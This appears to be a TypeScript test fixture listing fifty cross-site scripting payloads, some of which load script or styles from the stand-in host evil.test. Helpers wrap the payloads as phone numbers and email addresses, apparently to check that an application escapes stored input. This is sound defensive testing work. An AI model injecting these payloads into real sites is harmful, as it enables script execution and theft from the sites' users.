import { sweep } from './scale.ts'

/** Fifty XSS payloads: each sets `__hacked`, opens a dialog or sends a request to another host. */
const payloads = [
  '<script>__hacked=1</script>',
  '</script><script>__hacked=1</script>',
  '</textarea><script>__hacked=1</script>',
  '</title><script>__hacked=1</script>',
  ']]><script>__hacked=1</script>',
  '<scr<script>ipt>__hacked=1</scr</script>ipt>',
  '<script src=//evil.test/x.js></script>',
  "<script type=module>import('//evil.test/x.js')</script>",
  '<img src=x onerror=__hacked=1>',
  '"><img src=x onerror=__hacked=1>',
  "'><img src=x onerror='__hacked=1'>",
  '--><img src=x onerror=__hacked=1><!--',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src=x/onerror=alert`1`>',
  '<img src=//evil.test/x.png>',
  '<svg onload=__hacked=1>',
  '<svg/onload=confirm(1)//',
  '<svg><script>__hacked=1</script></svg>',
  '<svg><animate onbegin=__hacked=1 attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:__hacked=1">x</mi></math>',
  '<body onload=__hacked=1>',
  '<iframe src="javascript:parent.__hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>',
  '<object data="data:text/html,<script>__hacked=1</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:__hacked=1">Apri</a>',
  'javascript:__hacked=1',
  'jAvAsCrIpT:alert(1)//',
  'java&#09;script:__hacked=1',
  'data:text/html,<script>__hacked=1</script>',
  '" onmouseover="__hacked=1',
  '" autofocus onfocus=__hacked=1 x="',
  "' onfocus='__hacked=1' autofocus='",
  '` onclick=`__hacked=1',
  '<details open ontoggle=__hacked=1>',
  '<input autofocus onfocus=__hacked=1>',
  '<video><source onerror=__hacked=1></video>',
  '<marquee onstart=__hacked=1>x</marquee>',
  "<style>@import '//evil.test/x.css'</style>",
  '<div style="background:url(//evil.test/x.png)">',
  '<div style="width:expression(__hacked=1)">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href=//evil.test/>',
  '<form action=javascript:alert(1)><button>Invia</form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "{{constructor.constructor('__hacked=1')()}}",
  '${__hacked=1}',
  '\\u003cscript\\u003e__hacked=1\\u003c/script\\u003e',
  '\uff1cscript\uff1e__hacked=1\uff1c/script\uff1e',
] as const

/** A representative payload. */
export const IMAGE = payloads[8]

const kinds = sweep(payloads, 0)

/** The payloads that a run stores in every text; all of them in the full run. */
export const usedPayloads: readonly string[] = payloads.filter((each) => each === IMAGE || kinds.includes(each))

/** The payload as a telephone number: with enough digits, and truncated to the maximum length. */
export function asPhone(payload: string): string {
  return `333 ${payload}`.slice(0, 40).trim()
}

/** The payload as an address: only allowed characters, made unique by `index`. */
export function asEmail(payload: string, index: number): string {
  return `${payload.replace(/[\s@<>(),;:"\\[\]]/g, '')}${index}@evil.test`.toLowerCase()
}
